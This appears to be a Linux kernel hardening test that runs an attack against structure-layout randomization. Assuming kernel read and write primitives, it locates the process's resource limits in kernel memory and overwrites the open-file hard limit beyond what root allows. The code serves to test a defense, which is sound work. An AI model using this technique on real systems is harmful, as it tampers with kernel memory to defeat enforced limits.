// SPDX-License-Identifier: GPL-2.0-only
/*
 * It writes only where it finds what must be there, so that a miss ends nothing; that all of it
 * stands in its declared place happens for fewer than one seed in 10000.
 */
#include <linux/resource.h>

#include "attack.h"

ATTACK("struct_shuffle", "public_layout", "LOST",
       "The program follows the layout of the published source from its task to the limits of its "
       "process, and raises the number of files that it may open above what root allows.",
       "Each build lays out its structures by a seed of its own: nothing is where the source says.",
       "It opens a file under a number beyond its limit.");

#define WANTED_FILES 100000ul

static struct rlimit64 limit_read(void)
{
	struct rlimit64 limit = { 0 };

	call4(__NR_prlimit64, 0, RLIMIT_NOFILE, 0, (long)&limit);
	return limit;
}

static bool limit_raise(void)
{
	const struct rlimit64 wanted = { WANTED_FILES, WANTED_FILES };

	return call4(__NR_prlimit64, 0, RLIMIT_NOFILE, (long)&wanted, 0) == 0;
}

static bool control(void)
{
	return is_ordinary() && limit_read().rlim_max < WANTED_FILES && !limit_raise();
}

/* The task is his, the rest he has read in the source. 0: not so in this build. */
static uint64_t own_limit(void)
{
	const uint64_t id_at = declared("process.id"), parent_at = declared("process.parent_id");
	const struct rlimit64 limit = limit_read();
	uint64_t process, words, place, soft, hard;

	if (!quiet_peek(own_task() + declared("task.process"), &process) ||
	    !quiet_peek(process + id_at, &words) || (uint32_t)words != call0(__NR_getpid) ||
	    !quiet_peek(process + parent_at, &words) || (uint32_t)words != call0(__NR_getppid))
		return 0;
	place = process + declared("process.limits") + RLIMIT_NOFILE * sizeof(limit);
	if (!quiet_peek(place, &soft) || !quiet_peek(place + 8, &hard) || soft != limit.rlim_cur ||
	    hard != limit.rlim_max)
		return 0;
	return place;
}

static bool fire(void)
{
	const uint64_t place = own_limit();

	if (!place)
		return false;
	poke(place + 8, WANTED_FILES);
	return limit_raise() && call2(__NR_dup2, 1, WANTED_FILES - 1) == WANTED_FILES - 1;
}

static void victim(void)
{
	victim_waits();
}
